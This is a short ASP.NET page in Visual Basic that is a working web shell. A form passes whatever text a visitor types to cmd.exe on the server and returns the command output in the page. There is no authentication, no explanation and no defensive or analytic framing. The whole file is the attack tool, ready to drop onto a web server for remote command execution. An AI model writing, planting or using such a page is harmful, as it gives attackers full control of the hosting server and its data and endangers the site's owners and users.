<%@ Page Language="VB" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub RunCmd(Src As Object, E As EventArgs)
    Dim psi As New ProcessStartInfo()
    psi.FileName = "cmd.exe"
    psi.Arguments = "/c " & txtCmd.Text
    psi.RedirectStandardOutput = True
    psi.UseShellExecute = False
    Dim p As Process = Process.Start(psi)
    lblOut.Text = "<pre>" & Server.HtmlEncode(p.StandardOutput.ReadToEnd()) & "</pre>"
End Sub
</script>
<form runat="server">
<asp:TextBox id="txtCmd" runat="server"/><asp:Button runat="server" Text="Run" OnClick="RunCmd"/>
<asp:Label id="lblOut" runat="server"/>
</form>
